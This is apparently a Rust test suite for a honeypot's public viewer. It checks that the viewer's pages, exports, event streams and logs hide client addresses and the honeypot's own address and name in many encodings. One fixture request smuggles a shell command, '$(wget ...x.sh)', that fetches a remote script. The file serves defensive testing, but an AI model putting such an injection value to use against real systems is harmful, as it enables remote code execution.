//! A page that is shown in public. No answer of it names clients or this machine.

use std::io::Write;
use std::net::Ipv4Addr;

use anyhow::{Context, ensure};
use base64::Engine;
use base64::prelude::BASE64_STANDARD;
use flate2::Compression;
use flate2::write::{GzEncoder, ZlibEncoder};
use forever200_testkit::events::Events;
use forever200_testkit::process::{command, programs, project};
use forever200_testkit::{RESPONSE, Stack, client, connect_from, exchange_from, get_json, tshark};
use serde_json::{Value, json};
use tokio::io::AsyncWriteExt;

const CLIENT: Ipv4Addr = Ipv4Addr::new(127, 231, 67, 89);
const NETWORK: &str = "127.231.67.0";
const ADDRESS: &str = "203.0.113.99";
const NAME: &str = "honey.example.net";
/// Texts that nobody may see, in all forms in which [`requests`] have them, in lower case.
const SECRETS: [&str; 14] = [
    "127.231.67.89",
    ADDRESS,
    NAME,
    "203%2e0%2e113%2e99",
    "honey%2eexample%2enet",
    "203-0-113-99",
    "3405803875",
    "0xcb007163",
    "203.000.113.099",
    "031300070543",
    "203.0.29027",
    "honey\\056example",
    "203\\u{2e}0",
    "::ffff:cb00:7163",
];
const VARIABLES: [(&str, &str); 2] = [
    ("FOREVER200_MASK_SOURCES", "1"),
    ("FOREVER200_HIDE", "203.0.113.99, honey.example.net"),
];

fn post(headers: &str, body: &[u8]) -> Vec<u8> {
    let head = format!(
        "POST /body HTTP/1.1\r\nHost: x\r\n{headers}Content-Length: {}\r\n\r\n",
        body.len()
    );
    [head.as_bytes(), body].concat()
}

/// Returns a TLS hello that asks for this name.
fn hello(name: &str) -> Vec<u8> {
    let counted =
        |width: usize, bytes: &[u8]| [&bytes.len().to_be_bytes()[8 - width..], bytes].concat();
    let name = counted(2, &[&[0][..], &counted(2, name.as_bytes())].concat());
    let extensions = counted(2, &[&[0, 0][..], &counted(2, &name)].concat());
    let body = [
        &[3, 3][..],
        &[7; 32],
        &[0],
        &[0, 2, 0x13, 1],
        &[1, 0],
        &extensions,
    ]
    .concat();
    [
        &[0x16, 3, 1][..],
        &counted(2, &[&[1][..], &counted(3, &body)].concat()),
    ]
    .concat()
}

/// Returns a zlib stream with the usual first bytes of a middle level, and without a line end in
/// it.
fn zlib() -> anyhow::Result<Vec<u8>> {
    for number in 0..1000 {
        let text = format!("number={number}&host={NAME}&").repeat(9);
        let mut encoder = ZlibEncoder::new(Vec::new(), Compression::default());
        encoder.write_all(text.as_bytes())?;
        let mut stream = encoder.finish()?;
        stream[1] = 0x5e;
        if !stream.contains(&b'\n') && stream.trim_ascii() == stream {
            return Ok(stream);
        }
    }
    anyhow::bail!("each has a line end")
}

/// Returns requests that name the client or this machine, each in a different way.
fn requests() -> anyhow::Result<Vec<Vec<u8>>> {
    let basic = BASE64_STANDARD.encode(format!("admin:{NAME}"));
    let mut gzip = GzEncoder::new(Vec::new(), Compression::default());
    // Repeated, because a short text would be stored and not compressed.
    gzip.write_all(
        format!("callback=http://{ADDRESS}/&host={NAME}&")
            .repeat(9)
            .as_bytes(),
    )?;
    let get = |target: &str, headers: &str| {
        format!("GET {target} HTTP/1.1\r\n{headers}\r\n").into_bytes()
    };
    let gzip = gzip.finish()?;
    let zlib = zlib()?;
    ensure!(
        !gzip
            .windows(NAME.len())
            .any(|window| window == NAME.as_bytes()),
        "it is stored"
    );
    Ok(vec![
        get(
            &format!("/{NAME}/?url=http://{ADDRESS}/"),
            &format!("Host: {ADDRESS}:80\r\n"),
        ),
        get(
            "/upper",
            "Host: HONEY.Example.NET\r\nReferer: http://honey.example.net/home\r\n",
        ),
        get(
            &format!("/?x=$(wget+http://{ADDRESS}/x.sh)&from={CLIENT}"),
            &format!("X-Forwarded-For: {CLIENT}\r\n"),
        ),
        get(
            "/?a=203%2E0%2e113%2E99&b=%68oney%2Eexample%2enet&c=203%252e0%252e113%252e99",
            "Host: 203-0-113-99.example\r\n",
        ),
        get(
            "/?n=3405803875&h=0xCB007163",
            &format!("Host: x\r\nAuthorization: Basic {basic}\r\n"),
        ),
        post("Content-Encoding: gzip\r\n", &gzip),
        post(
            "Content-Type: application/json\r\n",
            format!(r#"{{"a":["{ADDRESS}"],"b":"{NAME}"}}"#).as_bytes(),
        ),
        hello(NAME),
        b"\x05\x01\x00\x04\x01\x00\x01\xcb\x00\x71\x63\x00\x50".to_vec(),
        get(
            "/?a=203.000.113.099&b=honey\\056example\\u{2e}net&c=203\\u{2e}0.113.99",
            "X-Number: 031300070543\r\nX-Short: 203.0.29027\r\nX-Long: [::ffff:cb00:7163]\r\n",
        ),
        [b"GET /zlib HTTP/1.1\r\nX: ", &zlib[..], b"\r\n\r\n"].concat(),
        // The masked network itself is not a secret.
        get("/plain", &format!("Host: {NETWORK}\r\n")),
    ])
}

/// Starts a stack that hides these texts, and sends it all requests from one address.
async fn recorded() -> anyhow::Result<(Stack, usize, Vec<u16>)> {
    let stack = Stack::start_with(&VARIABLES).await?;
    let requests = requests()?;
    let mut ports = Vec::new();
    for request in &requests {
        let mut stream = connect_from(CLIENT, stack.front()).await?;
        ports.push(stream.local_addr()?.port());
        stream.write_all(request).await?;
        ensure!(
            client::read_to_end(&mut stream).await? == RESPONSE,
            "{}",
            request.escape_ascii()
        );
    }
    stack.until_recorded(requests.len() as u64).await?;
    Ok((stack, requests.len(), ports))
}

/// Returns the answer of every address of the viewer.
async fn everything(stack: &Stack, count: usize) -> anyhow::Result<Vec<(String, Vec<u8>)>> {
    let mut paths: Vec<String> = [
        "",
        "/labels",
        "/text",
        "/text?color=true",
        "/api/requests",
        "/api/requests?raw=true",
        "/api/stats",
        "/health",
        "/export.ndjson",
        "/export.har",
        "/export.pcap",
        "/export.html",
        "/requests/9999",
        "?source=127.231.67.0/24",
    ]
    .map(|path| format!("/home{path}"))
    .into();
    for seq in 1..=count {
        let of_one = [
            "requests/SEQ",
            "requests/SEQ/raw",
            "requests/SEQ/pcap",
            "requests/SEQ/har",
            "api/requests/SEQ",
        ];
        paths.extend(of_one.map(|path| format!("/home/{}", path.replace("SEQ", &seq.to_string()))));
    }
    let mut answers = Vec::new();
    for path in paths {
        let response = stack.get(&path).await?;
        let may_fail = path.ends_with("/har") || path.ends_with("/9999");
        ensure!(
            response.status == 200 || may_fail && response.status == 404,
            "{path}: {}",
            response.status
        );
        answers.push((path, response.body));
    }
    for (format, name) in [("json", "request"), ("html", "row")] {
        let path = format!("/home/events?after=0&format={format}");
        let mut events = Events::open(stack.front(), &path, "").await?;
        for _ in 0..count {
            let event = events.next(name).await?.context("the stream ended")?;
            answers.push((path.clone(), event.data.into_bytes()));
        }
    }
    Ok(answers)
}

/// Returns all layers of an answer: its bytes, the bytes without HTML escapes, and what its base64
/// holds.
fn layers(answer: &[u8]) -> Vec<Vec<u8>> {
    let lossless: String = answer.iter().copied().map(char::from).collect();
    let plain = lossless.replace("&#x2f;", "/").replace("[.]", ".");
    let is_base64 = |char: char| char.is_ascii_alphanumeric() || "+/=".contains(char);
    let runs = plain
        .split(|char| !is_base64(char))
        .filter(|run| run.len() >= 16);
    let decoded: Vec<_> = runs
        .filter_map(|run| BASE64_STANDARD.decode(run).ok())
        .collect();
    // A request's bytes in base64 may hold more base64.
    let inner: Vec<_> = decoded
        .iter()
        .filter(|bytes| bytes.len() < answer.len())
        .flat_map(|it| layers(it))
        .collect();
    [vec![plain.into_bytes()], decoded, inner].concat()
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_that_is_shown_names_a_client_or_this_machine() -> anyhow::Result<()> {
    let (stack, count, ports) = recorded().await?;
    for (path, answer) in everything(&stack, count).await? {
        for layer in layers(&answer) {
            let text = String::from_utf8_lossy(&layer).to_lowercase();
            for secret in SECRETS {
                ensure!(!text.contains(secret), "{path} shows {secret}: {text}");
            }
            for port in &ports {
                for shown in [
                    format!("_port\":{port}"),
                    format!("67.0:{port}"),
                    format!("connection\":\"{port}"),
                ] {
                    ensure!(!text.contains(&shown), "{path} shows {shown}");
                }
            }
            for bytes in [&CLIENT.octets()[..], &[203, 0, 113, 99]] {
                ensure!(
                    !layer.windows(4).any(|window| window == bytes),
                    "{path} has {bytes:?}"
                );
            }
        }
    }
    // memcached still has these texts, so the viewer really hides them.
    let (kept, _) =
        forever200_testkit::exchange(stack.at(11211), b"get forever200:slot:1\r\nquit\r\n").await?;
    let kept = String::from_utf8_lossy(&kept);
    ensure!(
        kept.contains("\"src_ip\":\"127.231.67.89\"") && kept.contains(NAME),
        "{kept}"
    );
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_shown_says_what_it_hides_and_is_otherwise_whole() -> anyhow::Result<()> {
    let (stack, count, _) = recorded().await?;
    let list = get_json(stack.front(), "/home/api/requests?raw=true").await?;
    let found = list["requests"].as_array().context("no list")?;
    for (request, sent) in found.iter().rev().zip(requests()?) {
        let said =
            ["src_ip", "src_prefix", "src_port", "dest_ip", "bytes"].map(|name| &request[name]);
        assert_eq!(
            said,
            [
                &json!(NETWORK),
                &json!(24),
                &json!(0),
                &json!("0.0.0.0"),
                &json!(sent.len())
            ]
        );
        let raw = BASE64_STANDARD.decode(request["raw_base64"].as_str().context("no bytes")?)?;
        let changed = raw
            .iter()
            .zip(&sent)
            .filter(|(shown, sent)| shown != sent)
            .count();
        assert_eq!(
            (raw.len(), request["blanked"].as_u64().unwrap_or(0)),
            (sent.len(), changed as u64)
        );
    }
    let of = |seq: usize| &found[count - seq];
    assert_eq!(
        of(1)["summary"],
        "GET /xxxxxxxxxxxxxxxxx/?url=http://xxxxxxxxxxxx/"
    );
    assert_eq!(
        of(2)["http"]["headers"][0],
        json!(["Host", "xxxxxxxxxxxxxxxxx"])
    );
    assert_eq!(
        of(3)["indicators"],
        json!([{ "address": "hxxp://xxxxxxxxxxxx/x.sh" }])
    );
    assert_eq!(
        of(5)["http"]["headers"][1][1],
        format!(
            "Basic {}",
            BASE64_STANDARD.encode(format!("admin:{}", "x".repeat(17)))
        )
    );
    let stream = zlib()?;
    let changed = stream.iter().filter(|&&byte| byte != b'x').count();
    assert_eq!(of(11)["blanked"], json!(changed));
    assert_eq!(
        (&of(8)["protocol"], &of(count)["blanked"]),
        (&json!("tls"), &Value::Null)
    );

    // The tag does not change while nothing changes, although the shown bytes differ from the
    // stored ones.
    let tags = [
        stack.get("/home/api/requests").await?,
        stack.get("/home/api/requests").await?,
    ];
    assert_eq!(
        tags[0].header("etag").context("no tag")?,
        tags[1].header("etag").context("no tag")?
    );

    let mut schema: Value =
        serde_json::from_slice(&std::fs::read(project().join("docs/api.schema.json"))?)?;
    schema["$ref"] = "#/$defs/list".into();
    let faults = jsonschema::validator_for(&schema)?;
    let faults: Vec<_> = faults
        .iter_errors(&list)
        .map(|fault| fault.to_string())
        .collect();
    assert_eq!(faults, Vec::<String>::new());

    let pages = [
        ("/home", true),
        ("/home?view=wall", true),
        ("/home/requests/1", true),
        ("/home/export.html", true),
        ("/home/labels", false),
    ];
    for (path, says_so) in pages {
        assert_eq!(
            stack
                .get(path)
                .await?
                .text()
                .contains("Not everything is shown: source addresses"),
            says_so,
            "{path}"
        );
    }
    let page = stack.get("/home").await?.text();
    ensure!(
        page.contains(
            "<a href=\"/home?source=127.231.67.0&#x2f;24\" title=\"127.231.67.0&#x2f;24\">127.231.67.0&#x2f;24</a></td>"
        ),
        "{page}"
    );
    ensure!(page.contains("partly blanked"), "{page}");
    ensure!(
        stack
            .get("/home/text")
            .await?
            .text()
            .contains("  127.231.67.0/24  "),
        "no network"
    );
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_filter_finds_networks_and_no_addresses() -> anyhow::Result<()> {
    let (stack, count, _) = recorded().await?;
    for (query, found) in [
        ("source=127.231.67.0/24", count),
        ("source=127.231.67.0", count),
        ("source=127.231.0.0/16", count),
        ("source=127.231.67.89", 0),
        ("source=127.231.67.64/26", 0),
        ("q=127.231.67.89", 0),
        ("q=203.0.113.99", 0),
        ("q=honey", 0),
        ("q=HONEY.example", 0),
        ("q=%5Cxcb%5Cx00%5Cx71%5Cx63", 0),
        ("path=/honey", 0),
        ("q=%3Dhttp://xxxxxxxxxxxx/", 1),
    ] {
        let list = get_json(stack.front(), &format!("/home/api/requests?{query}")).await?;
        assert_eq!(
            list["requests"].as_array().map(Vec::len),
            Some(found),
            "{query}"
        );
    }
    let stats = get_json(stack.front(), "/home/api/stats").await?;
    assert_eq!(
        (&stats["sources"], &stats["private_only"]),
        (&json!(1), &json!(true))
    );
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn masked_connections_are_distinct_in_a_capture() -> anyhow::Result<()> {
    let (stack, count, _) = recorded().await?;
    let file = tempfile::NamedTempFile::new()?;
    std::fs::write(file.path(), stack.get("/home/export.pcap").await?.body)?;
    let seen = tshark::sees(file.path())?;
    assert_eq!((seen.streams.len(), seen.complaints), (count, Vec::new()));
    for stream in &seen.streams {
        assert_eq!(
            (
                stream.client.ip().to_string(),
                stream.server.ip().to_string()
            ),
            (NETWORK.into(), "0.0.0.0".into())
        );
        assert_eq!(stream.response, RESPONSE);
    }
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn logs_name_no_client() -> anyhow::Result<()> {
    let stack =
        Stack::start_with(&[&VARIABLES[..], &[("FOREVER200_LOG_FORMAT", "json")]].concat()).await?;
    for request in requests()? {
        exchange_from(CLIENT, stack.front(), &request).await?;
    }
    // Directly to the responder, without the header that it expects.
    let bad = exchange_from(
        CLIENT,
        stack.at(9999),
        b"GET / HTTP/1.1\r\nHost: honey.example.net\r\n\r\n",
    )
    .await;
    ensure!(bad.is_ok_and(|reply| reply.is_empty()), "it was answered");
    stack.until_recorded(requests()?.len() as u64).await?;
    let log = stack.log();
    ensure!(
        log.contains("connection dropped")
            && log.contains(r#""mask_sources":true,"hidden_texts":2"#),
        "{log}"
    );
    for secret in SECRETS {
        ensure!(
            !log.to_lowercase().contains(secret),
            "the log has {secret}: {log}"
        );
    }
    Ok(())
}

#[test]
fn a_text_that_is_everywhere_is_refused_and_a_switch_may_be_1() -> anyhow::Result<()> {
    for (name, value, says) in [
        (
            "FOREVER200_HIDE",
            "honey.example.net,net",
            "--hide <TEXTS>': expected texts of 4 to 255 bytes, not \"net\"",
        ),
        ("FOREVER200_MASK_SOURCES", "2", "--mask-sources <SWITCH>'"),
    ] {
        let viewer = programs()?.join("forever200-viewer");
        let output = command(viewer)
            .env(name, value)
            .env("NO_COLOR", "1")
            .output()?;
        let stderr = String::from_utf8(output.stderr)?;
        assert_eq!(
            (output.status.code(), stderr.lines().count()),
            (Some(2), 1),
            "{stderr}"
        );
        assert!(stderr.contains(says), "{stderr}");
    }
    for value in ["0", "1", "on", "off"] {
        let help = command(programs()?.join("forever200-responder"))
            .args(["--proxy-protocol", value, "--listen", "nowhere"])
            .output()?;
        let stderr = String::from_utf8(help.stderr)?;
        assert!(
            stderr.contains("--listen") && !stderr.contains("--proxy-protocol"),
            "{stderr}"
        );
    }
    Ok(())
}
